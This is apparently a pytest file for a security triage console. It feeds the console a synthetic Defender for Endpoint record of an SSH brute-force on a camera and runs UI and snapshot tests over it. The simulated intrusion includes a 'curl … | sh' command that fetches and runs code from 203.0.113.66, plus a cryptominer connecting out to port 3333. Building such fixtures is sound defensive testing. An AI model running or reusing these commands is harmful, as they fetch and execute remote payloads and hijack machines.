"""The console on evidence of Defender for Endpoint alone."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from iotriage.queries.evidence.source import Evidence
from iotriage.tui.casebook.casebook import Casebook
from oracle.endpoint_rows import CAM, FOUND, GATE, TWIN, Sheet
from textual.pilot import Pilot

from .driving import Driver, console_on, driven, ticking
from .sources import NOW, Remembering
from .test_snapshots import SIZES

#: Screen -> the keys that lead to it once the device is open.
SCREENS = {"alerts": ("1",), "users": ("2",), "logins": ("4",), "processes": ("5", "end", "enter")}


def _intrusion() -> Sheet:
    """A camera that is broken into over SSH, one of the same name, and what else is there."""
    sheet, ssh = Sheet(), {"InitiatingProcessFileName": "sshd", "AccountDomain": "cam-7"}
    for hour in range(24):
        device = {"device": GATE, "AccountName": "root"}
        sheet.process(60 * hour, "/usr/bin/backup", "backup --hourly", **device)
        sheet.process(60 * hour + 1, "/usr/bin/stream", "stream -q", AccountName="video")
        sheet.info(60 * hour + 2, "ops", ClientVersion="101.25042")
    sheet.info(30, device=TWIN)
    sheet.info(31, device=FOUND, OnboardingStatus="Can be onboarded", SensorHealthState="")
    for minute in range(40):
        sheet.logon(600 + minute / 10, "Failed", ("root", "admin", "ops")[minute % 3],
                    "203.0.113.66", FailureReason="InvalidUserNameOrPassword", **ssh)  # fmt: skip
    sheet.logon(605, "Success", "ops", "203.0.113.66", IsLocalAdmin=True, **ssh)
    shell = {"AccountName": "ops", "AccountDomain": "cam-7", "SHA256": "5f" * 32}
    sheet.process(606, "/bin/sh", "sh -c 'curl -s 203.0.113.66/k | sh'", **shell)
    sheet.process(607, "/tmp/.x/kworkerds", "./kworkerds -o 203.0.113.66:3333", **shell)
    sheet.net(607, "ConnectionSuccess", RemoteIP="203.0.113.66", RemotePort=3333,
              InitiatingProcessFolderPath="/tmp/.x/kworkerds")  # fmt: skip
    sheet.net(608, "ListeningConnectionCreated", LocalPort=4444, LocalIP="0.0.0.0")
    sheet.alert(606, "a1", {"MdatpDeviceId": CAM}, AlertName="Suspicious sign-in after failures",
                Description="Many failed sign-ins were followed by a success")  # fmt: skip
    sheet.alert(609, "a2", AlertName="Cryptominer", CompromisedEntity="cam-7",
                AlertSeverity="Medium")  # fmt: skip
    return sheet


@pytest.fixture(scope="module")
def source() -> Iterator[Remembering]:
    rows = {
        table: [row | {"TimeGenerated": row["TimeGenerated"].isoformat()} for row in rows]
        for table, rows in _intrusion().tables.items()
    }
    evidence = Evidence.of_rows("EVIDENCE export", rows, NOW)
    yield Remembering(evidence)
    evidence.close()


async def test_the_pack_that_fits_is_chosen_and_shown(source: Remembering, case: Path) -> None:
    async with driven(source, case, demo=False, evidence="export") as console:
        await console.settled()
        assert console.app.pack.name == "endpoint"
        assert f"cam-7 {CAM[:8]}" in console.text, "two devices are called so"
        await console.open("gate")
        scope = console.app.scope
        assert scope is not None
        assert (scope.device, scope.hub) == (GATE, "")
        above = " ".join(console.lines[:2])
        assert all(word in above for word in ("(no hub)", "Gate.plant.example"))
        await console.press("5")
        assert console.keys_of("processes") == ["/usr/bin/backup"]


async def test_a_pack_that_was_named_stays(source: Remembering, case: Path) -> None:
    async with driven(source, case, demo=False, evidence="export", pack="exact") as console:
        await console.settled()
        assert console.app.pack.name == "exact"


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("screen", ["picker", *SCREENS])
def test_screen(
    screen: str, size: str, source: Remembering, case: Path, snap_compare: object
) -> None:
    with Casebook.open(case, "mei", ticking()) as book:
        app = console_on(source, book, demo=False, evidence="export")

        async def go_there(pilot: Pilot[str | None]) -> None:
            console = Driver(app, pilot)
            await console.settled()
            if screen in SCREENS:
                await console.open(CAM)
                await console.press(*SCREENS[screen])
                await console.until(lambda: "asking" not in console.text)
            app.clear_notifications()
            await pilot.pause(0.1)

        assert snap_compare(app, terminal_size=SIZES[size], run_before=go_there)  # type: ignore[operator]
